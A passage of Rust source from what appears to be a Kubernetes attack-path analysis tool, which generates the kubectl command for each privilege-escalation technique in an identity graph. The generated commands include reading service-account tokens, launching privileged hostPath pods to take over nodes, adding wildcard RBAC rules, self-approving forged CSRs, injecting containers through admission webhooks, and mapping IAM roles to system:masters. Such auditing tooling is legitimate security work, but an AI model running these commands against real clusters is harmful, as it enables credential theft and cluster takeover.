        "apiVersion": format!("{ADMISSION_GROUP}/v1"), "kind": "MutatingAdmissionPolicy", "metadata": meta,
        "spec": {
            "matchConstraints": {
                "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": namespace}},
                "resourceRules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}]
            },
            "failurePolicy": "Ignore",
            "reinvocationPolicy": "Never",
            "mutations": [{"patchType": "JSONPatch", "jsonPatch": {
                "expression": format!("[JSONPatch{{op: \"add\", path: \"/spec/containers/-\", value: {container}}}]")
            }}]
        }
    });
    let binding = json!({
        "apiVersion": format!("{ADMISSION_GROUP}/v1"), "kind": "MutatingAdmissionPolicyBinding", "metadata": meta,
        "spec": {"policyName": OBJECT_NAME}
    });
    json!({"apiVersion": "v1", "kind": "List", "items": [policy, binding]})
}

/// A workload of this resource whose pods run as `sa`, as JSON for `kubectl create -f -`.
fn workload_manifest(resource: &str, sa: &str) -> serde_json::Value {
    use serde_json::json;
    let labels = json!({"app": OBJECT_NAME});
    let pod = |restart: &str| {
        json!({"serviceAccountName": sa, "restartPolicy": restart,
               "containers": [{"name": "c", "image": "busybox", "command": ["sleep", "3600"]}]})
    };
    let template = |restart: &str| json!({"metadata": {"labels": labels}, "spec": pod(restart)});
    let (api_version, kind, spec) = match resource {
        "deployments" => {
            ("apps/v1", "Deployment", json!({"selector": {"matchLabels": labels}, "template": template("Always")}))
        }
        "replicasets" => {
            ("apps/v1", "ReplicaSet", json!({"selector": {"matchLabels": labels}, "template": template("Always")}))
        }
        "statefulsets" => (
            "apps/v1",
            "StatefulSet",
            json!({"serviceName": OBJECT_NAME, "selector": {"matchLabels": labels}, "template": template("Always")}),
        ),
        "daemonsets" => {
            ("apps/v1", "DaemonSet", json!({"selector": {"matchLabels": labels}, "template": template("Always")}))
        }
        "jobs" => ("batch/v1", "Job", json!({"template": template("Never")})),
        "cronjobs" => (
            "batch/v1",
            "CronJob",
            json!({"schedule": "*/1 * * * *", "jobTemplate": {"spec": {"template": template("Never")}}}),
        ),
        _ => ("v1", "ReplicationController", json!({"selector": labels, "template": template("Always")})),
    };
    json!({"apiVersion": api_version, "kind": kind, "metadata": {"name": OBJECT_NAME}, "spec": spec})
}

/// The kubectl command that performs a step, as the step's source identity runs it.
pub fn command(graph: &Graph, from: usize, e: &Edge) -> String {
    use Technique::*;
    let state = graph.state(from);
    let to = &graph.state(e.to).identity;
    let prefix = match state.held {
        Held::Impersonated { mode, .. } => {
            let as_user = format!("kubectl --as={}", state.identity.user_info().username);
            match (mode, state.identity.kind) {
                (ImpersonationMode::Legacy, IdentityKind::Group) => {
                    format!("{as_user} --as-group={}", state.identity.name)
                }
                _ => as_user,
            }
        }
        Held::Credential => "kubectl".to_string(),
    };
    let (ns, name, variant) = (&e.namespace, &e.name, &e.variant);
    let sa = &to.name;
    let subject = |identity: &Identity| match identity.kind {
        IdentityKind::ServiceAccount => format!("--serviceaccount={}:{}", identity.namespace, identity.name),
        IdentityKind::Group => format!("--group={}", identity.name),
        IdentityKind::User => format!("--user={}", identity.name),
        IdentityKind::Node => format!("--user=system:node:{}", identity.name),
    };
    let Some(technique) = e.technique else { return String::new() };
    match technique {
        ImpersonateUser | ImpersonateServiceAccount => format!("{prefix} --as={} auth whoami", to.user_info().username),
        ImpersonateGroup => format!("{prefix} --as={} --as-group={} auth whoami", to.user, to.name),
        ConstrainedAssociatedNode => format!(
            "kubectl --token=\"$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" --as=system:node:{} <request>  \
             # from inside a pod on the node; constrained: only requests allowed by impersonate-on",
            to.name
        ),
        ConstrainedUserInfo | ConstrainedServiceAccount | ConstrainedArbitraryNode => {
            format!(
                "{prefix} --as={} <request>  # constrained: only requests allowed by impersonate-on",
                to.user_info().username
            )
        }
        TokenRequest => format!("{prefix} create token {sa} -n {ns}"),
        SecretRead if *variant == "list" => format!("{prefix} get secrets -n {ns} -o json  # the token of {name}"),
        SecretRead => format!("{prefix} get secret {name} -n {ns} -o jsonpath='{{.data.token}}' | base64 -d"),
        SecretCreate => format!(
            "echo '{{\"apiVersion\":\"v1\",\"kind\":\"Secret\",\"metadata\":{{\"name\":\"{name}\",\
             \"annotations\":{{\"kubernetes.io/service-account.name\":\"{sa}\"}}}},\"type\":\"kubernetes.io/service-account-token\"}}' \
             | {prefix} create -n {ns} -f - >/dev/null && for i in $(seq 30); do t=$({prefix} get secret {name} -n {ns} -o jsonpath='{{.data.token}}'); \
             [ -n \"$t\" ] && break; sleep 1; done && echo \"$t\" | base64 -d"
        ),
        PodCreate => format!(
            "{prefix} run {OBJECT_NAME} -n {ns} --image=busybox --restart=Never --overrides='{{\"spec\":{{\"serviceAccountName\":\"{sa}\"}}}}' -- sleep 3600"
        ),
        WorkloadCreate => {
            format!("echo '{}' | {prefix} create -n {ns} -f -", workload_manifest(variant, sa))
        }
        PodExec => format!("{prefix} exec {name} -n {ns} -- cat /var/run/secrets/kubernetes.io/serviceaccount/token"),
        PodAttach => format!("{prefix} attach {name} -n {ns} -i"),
        PodEphemeral => format!(
            "{prefix} debug {name} -n {ns} -it --image=busybox -- cat /proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token"
        ),
        PodUpdate => format!(
            "{prefix} patch pod {name} -n {ns} --type=json -p '[{{\"op\":\"replace\",\"path\":\"/spec/containers/0/image\",\"value\":\"<an image of yours>\"}}]'  \
             # the container restarts with your image, as {}/{sa}",
            to.namespace
        ),
        NodeTakeover => format!(
            "{prefix} run {OBJECT_NAME} -n {ns} --image=busybox --restart=Never --overrides='{{\"spec\":{{\"nodeName\":\"{}\",\
             \"containers\":[{{\"name\":\"c\",\"image\":\"busybox\",\"command\":[\"sleep\",\"3600\"],\"securityContext\":{{\"privileged\":true}},\
             \"volumeMounts\":[{{\"name\":\"host\",\"mountPath\":\"/host\"}}]}}],\"volumes\":[{{\"name\":\"host\",\"hostPath\":{{\"path\":\"/\"}}}}]}}}}'  \
             # then read the kubelet's credentials under /host/var/lib/kubelet",
            to.name
        ),
        WebhookMutate => format!(
            "echo \"{}\" | {prefix} create -f - >/dev/null  # WEBHOOK_URL, WEBHOOK_CA_BUNDLE: a server of yours that adds a \
             container; the next pod like {ns}/{name} (its controller recreates it) runs it as {sa}",
            mutating_webhook(ns).to_string().replace('\\', "\\\\").replace('"', "\\\"")
        ),
        MapMutate => format!(
            "echo '{}' | {prefix} create -f - >/dev/null  # the next pod like {ns}/{name} (its controller recreates it) runs the added \
             container as {sa}",
            mutating_policy(ns)
        ),
        NodeProxy => format!(
            "{prefix} get --raw /api/v1/nodes/{name}/proxy/runningpods/  # then the kubelet's /exec into a pod of {}/{sa}",
            to.namespace
        ),
        NodeServiceAccountToken => format!(
            "{prefix} create token {sa} -n {} --bound-object-kind=Pod --bound-object-name={name}  # with the credentials of node {}",
            to.namespace, state.identity.name
        ),
        RbacBind => {
            let holder = to;
            if ns.is_empty() {
                format!("{prefix} create clusterrolebinding {OBJECT_NAME} --clusterrole={name} {}", subject(holder))
            } else {
                format!("{prefix} create rolebinding {OBJECT_NAME} -n {ns} --clusterrole={name} {}", subject(holder))
            }
        }
        RbacEscalate if *variant == "update" => {
            let role = if ns.is_empty() {
                graph.cluster.cluster_roles.get(name.as_str())
            } else {
                graph.cluster.role(ns, name)
            };
            let mut rules: Vec<serde_json::Value> = role
                .map(|r| r.rules.iter().filter_map(|rule| serde_json::to_value(&**rule).ok()).collect())
                .unwrap_or_default();
            rules.push(serde_json::json!({"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}));
            let (kind, path) = if ns.is_empty() {
                ("ClusterRole", format!("/apis/{RBAC_GROUP}/v1/clusterroles/{name}"))
            } else {
                ("Role", format!("/apis/{RBAC_GROUP}/v1/namespaces/{ns}/roles/{name}"))
            };
            let mut metadata = serde_json::json!({"name": name});
            if !ns.is_empty() {
                metadata["namespace"] = serde_json::json!(ns);
            }
            let object = serde_json::json!({"apiVersion": format!("{RBAC_GROUP}/v1"), "kind": kind, "metadata": metadata, "rules": rules});
            format!("echo '{object}' | {prefix} replace --raw {path} -f -")
        }
        RbacEscalate => {
            let patch = r#"--type=json -p '[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]'"#;
            if ns.is_empty() {
                format!("{prefix} patch clusterrole {name} {patch}")
            } else {
                format!("{prefix} patch role {name} -n {ns} {patch}")
            }
        }
        CsrClient | CsrKubelet => {
            let (cn, o, signer) = match to.kind {
                IdentityKind::Node => (format!("system:node:{}", to.name), "system:nodes".to_string(), KUBELET_SIGNER),
                IdentityKind::Group => (to.user.clone(), to.name.clone(), CLIENT_SIGNER),
                _ => (to.user_info().username, String::new(), CLIENT_SIGNER),
            };
            let subj = if o.is_empty() { format!("/CN={cn}") } else { format!("/CN={cn}/O={o}") };
            format!(
                "openssl req -new -newkey rsa:2048 -nodes -keyout k.key -subj '{subj}' -out r.csr && echo \
                 \"{{\\\"apiVersion\\\":\\\"certificates.k8s.io/v1\\\",\\\"kind\\\":\\\"CertificateSigningRequest\\\",\\\"metadata\\\":{{\\\"name\\\":\\\"{name}\\\"}},\
                 \\\"spec\\\":{{\\\"signerName\\\":\\\"{signer}\\\",\\\"usages\\\":[\\\"digital signature\\\",\\\"key encipherment\\\",\\\"client auth\\\"],\\\"request\\\":\\\"$(base64 -w0 r.csr)\\\"}}}}\" | {prefix} create -f - >/dev/null \
                 && {prefix} certificate approve {name} && for i in $(seq 30); do c=$({prefix} get csr {name} -o jsonpath='{{.status.certificate}}'); \
                 [ -n \"$c\" ] && break; sleep 1; done && echo \"$c\" | base64 -d > k.crt"
            )
        }
        AwsAuth => format!(
            "{prefix} edit configmap aws-auth -n kube-system  # map an IAM role you control to the group system:masters"
        ),
    }
}
